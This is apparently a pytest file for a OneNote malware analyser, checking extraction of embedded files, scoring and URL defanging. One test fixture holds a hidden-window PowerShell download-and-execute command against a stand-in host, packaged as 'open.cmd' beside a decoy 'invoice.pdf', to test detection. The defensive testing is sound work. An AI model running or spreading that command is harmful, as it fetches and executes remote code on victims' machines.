import struct

import pytest

from workers.filetype import filetype
from workers.onenote import onenote

SECTION = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3")
OBJECT = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
PNG = b"\x89PNG\r\n\x1a\n" + bytes(60)


def notes(*contents: bytes, names: tuple[str, ...] = ()) -> bytes:
    """A section of notes, as far as what is embedded and how it is called."""
    stored = b"".join(
        OBJECT + struct.pack("<Q12x", len(each)) + each + bytes(-len(each) % 8) + bytes(16)
        for each in contents
    )
    called = b"".join(name.encode("utf-16-le") + b"\0\0" for name in names)
    return SECTION + bytes(1008) + called + stored


def test_what_is_embedded_becomes_children(analyse, launchers):
    """A program, a script and a picture are handed on as they are; the first two make the score."""
    program = launchers["t64.exe"]
    script = b"@echo off\r\npowershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x.example.com/a')"
    content = notes(PNG, script, program, names=("invoice.pdf", "open.cmd"))
    findings = analyse(onenote, content)
    assert [child.path.read_bytes() for child in findings.children] == [PNG, script, program]
    names = {trait.name for trait in findings.result.traits}
    assert {"embedded-program", "embedded-runnable-name", "downloads", "hidden-window"} <= names
    assert "hxxp://x[.]example[.]com/a" in {each.value for each in findings.result.indicators}
    assert findings.score == 100
    assert findings.result.names == ["invoice.pdf", "open.cmd"]
    assert analyse(filetype, content).classification.type == "one"


def test_pictures_alone_are_no_score(analyse):
    """Notes with pictures are what notes are."""
    findings = analyse(onenote, notes(PNG, PNG, names=("photo.png",)))
    assert (findings.score, len(findings.children)) == (-1, 2)


@pytest.mark.parametrize("size", [0, 1 << 40, 100])
def test_sizes_that_lie(analyse, size):
    """An object that claims to be larger than the file, or empty, is left out."""
    findings = analyse(onenote, SECTION + OBJECT + struct.pack("<Q12x", size) + b"x" * 50)
    assert findings.children == []
